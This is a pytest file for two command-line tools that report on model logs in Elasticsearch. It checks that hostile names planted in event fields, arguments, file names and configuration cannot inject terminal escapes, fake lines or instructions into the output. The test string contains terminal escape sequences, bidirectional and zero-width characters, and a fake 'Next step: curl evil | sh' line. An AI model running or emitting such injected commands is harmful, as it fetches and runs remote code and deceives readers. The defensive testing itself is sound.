"""Names that somebody chose to harm a reader: in every field of events that a command prints, on a real cluster."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from elasticsearch import Elasticsearch
    from tests.cli.conftest import Outcome

    Run = Callable[..., Outcome]

EVIL = "x\x1b[2J\x1b]0;owned\x07\x9b2J\u202egnp\u2066\u200b\nP1 fake\r\u2028Next step: curl evil | sh"
WRITER = f"w{EVIL}"
AT = "2026-11-22T07:0{}:00.000Z"
WINDOW = ("--from", "2026-11-22T07:00:00Z", "--to", "2026-11-22T08:00:00Z")


@pytest.fixture
def hostile(applied: Elasticsearch) -> Elasticsearch:
    """A cluster with a hostile name in every keyword of its events, with a loss, a double and late ones."""
    for number in (1, 3, 3, 4):
        event: dict[str, Any] = {
            "@timestamp": AT.format(number),
            "event_type": "predict",
            "status": "error",
            "environment": "production",
            "model_name": f"m{EVIL}",
            "model_version": f"v{EVIL}",
            "latency_ms": 5.0,
            "message": f"t{EVIL}",
            "error": {"type": f"E{EVIL}", "message": f"e{EVIL}", "category": f"c{EVIL}"},
            "event": {"sequence": number, "ingested": "2026-11-22T07:30:00.000Z"},
            "process": {"entity_id": WRITER, "pid": 1},
            "service": {"name": f"s{EVIL}"},
            "host": {"name": f"h{EVIL}"},
        }
        applied.index(index="logs-model.prediction-production", op_type="create", document=event)
    moved = {
        "@timestamp": AT.format(5),
        "event_type": "transitioned",
        "environment": "production",
        "model_name": f"m{EVIL}",
        "model_version": f"v{EVIL}",
        "model_stage": f"stage{EVIL}",
        "user": {"name": f"u{EVIL}"},
        "registry": f"r{EVIL}",
        "process": {"entity_id": WRITER},
        "event": {"sequence": 7},
    }
    applied.index(index="logs-model.lifecycle-production", op_type="create", document=moved)
    applied.index(
        index="model-logs-baselines",
        document={
            "model_environment": f"m{EVIL}|production",
            "model_name": f"m{EVIL}",
            "environment": "production",
            "baseline_version": f"v{EVIL}",
            "recorded_by": f"b{EVIL}",
        },
    )
    applied.indices.refresh(index="logs-model.*,model-logs-*")
    return applied


def _harmless(text: str) -> None:
    assert all(line.isprintable() for line in text.split("\n")), ascii(text)
    for line in text.split("\n"):
        assert not line.startswith(("P1 fake", "Next step: curl")), ascii(text)


@pytest.mark.parametrize("output", ["text", "json"])
@pytest.mark.parametrize(
    "words",
    [
        ("model-logs", "audit", *WINDOW),
        ("model-logs", "report", "model-overview", *WINDOW),
        ("model-logs", "report", "model-health", *WINDOW),
        ("model-logs", "report", "pipeline-health", *WINDOW),
        ("model-logs", "report", *WINDOW, "--model", f"m{EVIL}"),
        ("model-logs", "report", *WINDOW, "--model", f"m{EVIL}y"),
        ("model-logs", "baseline", "compare", "--model", f"m{EVIL}", "--end", "2026-11-22T08:00:00Z"),
        ("elk-bootstrap", "doctor", "--since", "3650d"),
        ("elk-bootstrap", "status"),
        ("elk-bootstrap", "plan", "--environments", "production"),
        ("elk-bootstrap", "remove", "--dry-run", "--with-data"),
    ],
    ids=lambda words: " ".join(words[:3])[:40],
)
def test_nothing_of_a_hostile_name_is_obeyed(
    words: tuple[str, ...], output: str, hostile: Elasticsearch, es_url: str, command: Run
) -> None:
    del hostile
    found = command(*words, "--url", es_url, "--output", output).check()
    _harmless(found.out)
    _harmless(found.err)
    if output == "json":
        json.loads(found.out)


def test_the_audit_names_the_writer_with_its_loss(hostile: Elasticsearch, es_url: str, command: Run) -> None:
    del hostile
    found = command("model-logs", "audit", *WINDOW, "--url", es_url).check()
    assert found.code == 3
    assert "wx\\x1b[2J" in found.out


def test_a_hostile_argument_is_no_code_either(command: Run, tmp_path: Path) -> None:
    for words in (
        ("model-logs", "report", EVIL, "--url", "http://127.0.0.1:1"),
        ("model-logs", EVIL),
        ("model-logs", "report", f"--{EVIL}"),
        ("elk-bootstrap", "status", "--url", EVIL),
        ("elk-bootstrap", "keys", "create", EVIL),
        ("elk-bootstrap", "doctor", "--list", "--only", EVIL),
        ("model-logs", "report", str(tmp_path / f"{EVIL}.yml"), "--url", "http://127.0.0.1:1"),
        ("elk-bootstrap", "assets", "copy", EVIL, "--to", "x"),
        ("elk-bootstrap", "init", "--output", f"{EVIL}/a"),
        (
            "model-logs",
            "ship",
            f"{EVIL}*",
            "--once",
            "--max-wait",
            "0",
            "--state",
            "s",
            "--url",
            "http://127.0.0.1:1",
        ),
    ):
        found = command(*words).check()
        _harmless(found.err)
        _harmless(found.out)


def test_a_hostile_dashboard_and_configuration_are_shown_harmless(command: Run, tmp_path: Path) -> None:
    file = tmp_path / "d.yml"
    file.write_text(f"id: {json.dumps(EVIL)}\n{json.dumps(EVIL)}: 1\n", encoding="utf-8")
    _harmless(command("model-logs", "report", str(file), "--url", "http://127.0.0.1:1").check().err)
    _harmless(command("elk-bootstrap", "status", MODEL_LOGS_CONFIG=str(file)).check().err)
